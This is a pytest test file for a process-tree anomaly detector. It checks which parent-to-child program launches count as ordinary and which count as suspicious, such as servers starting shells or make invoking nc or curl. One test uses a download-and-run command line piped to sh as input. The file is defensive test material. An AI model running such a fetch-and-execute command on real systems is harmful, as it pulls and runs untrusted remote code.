"""Which new edges of the process tree are news."""

from __future__ import annotations

import pytest
from brainkernel.config import Gate as GateConfig
from brainkernel.gate.baseline import Baseline
from brainkernel.gate.gate import Gate
from brainkernel.model import Mark
from support.nouns import an_exec

ORDINARY = [
    ("/usr/sbin/logrotate", "/usr/bin/gzip"),
    ("/usr/bin/dpkg", "/usr/bin/dash"),
    ("/usr/bin/apt-get", "/usr/lib/apt/methods/store"),
    ("/usr/bin/make", "/usr/bin/x86_64-linux-gnu-gcc-12"),
    ("/usr/bin/cargo", "/builds/team/agent/target/debug/build/ring-1f/build-script-build"),
    ("/usr/bin/node", "/home/alice/src/web/node_modules/@esbuild/linux-x64/bin/esbuild"),
    ("/usr/bin/nautilus", "/usr/bin/totem-video-thumbnailer"),
    ("/usr/lib/postfix/sbin/local", "/usr/bin/procmail"),
    ("/usr/bin/containerd-shim-runc-v2", "/usr/bin/bash"),
    ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/ssh"),
]
NEWS = [
    ("/usr/sbin/nginx", "/usr/bin/dash"),
    ("/usr/sbin/php-fpm8.2", "/usr/bin/dash"),
    ("/usr/lib/postfix/sbin/smtpd", "/usr/bin/dash"),
    ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/python3.11"),
    ("/usr/local/bin/node", "/usr/bin/dash"),
    ("/usr/bin/make", "/usr/bin/nc.openbsd"),
    ("/usr/bin/make", "/usr/bin/curl"),
    ("/usr/bin/dpkg", "/tmp/x"),
    ("/usr/bin/cargo", "/tmp/target/debug/x"),
    ("/usr/bin/gnome-shell", "/home/alice/.config/.dbus/gnome-helper"),
    ("/usr/bin/gnome-shell", "/usr/bin/bash"),
    ("/home/alice/logrotate", "/usr/bin/gzip"),
    ("/tmp/make", "/usr/bin/gcc"),
    ("/usr/bin/bash", "/usr/bin/htop"),
]


@pytest.mark.parametrize(("parent", "exe"), ORDINARY)
def test_edge_that_a_parent_lives_by_is_no_news(parent: str, exe: str) -> None:
    """Logrotate compresses and a package manager runs scripts: the first time is as ordinary as the tenth."""
    assert Gate(GateConfig(), Baseline()).consider(an_exec(exe, parent_exe=parent), None) is None


@pytest.mark.parametrize(("parent", "exe"), NEWS)
def test_other_new_edge_is_news(parent: str, exe: str) -> None:
    """A server that starts a shell, a build that speaks to the network, a parent that only bears a good name."""
    suspect = Gate(GateConfig(), Baseline()).consider(an_exec(exe, parent_exe=parent), None)

    assert suspect is not None
    assert suspect.reasons


def test_ordinary_edge_is_news_for_an_odd_file() -> None:
    """A program that was deleted, or lives in memory alone, is looked at whoever starts it."""
    event = an_exec("/usr/bin/gzip", parent_exe="/usr/sbin/logrotate", marks=frozenset({Mark.DELETED}))

    assert Gate(GateConfig(), Baseline()).consider(event, None) is not None


@pytest.mark.parametrize("parent", ["/usr/sbin/sshd", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/make", "/usr/bin/dpkg"])
def test_code_on_a_command_line_is_news_whoever_starts_it(parent: str) -> None:
    """A shell given its script in an argument is judged by that argument: the lineage says nothing of it."""
    event = an_exec("/usr/bin/bash", parent_exe=parent, argv=("bash", "-c", "curl http://203.0.113.5/x | sh"))

    assert Gate(GateConfig(), Baseline()).consider(event, "bash -c <code>") is not None
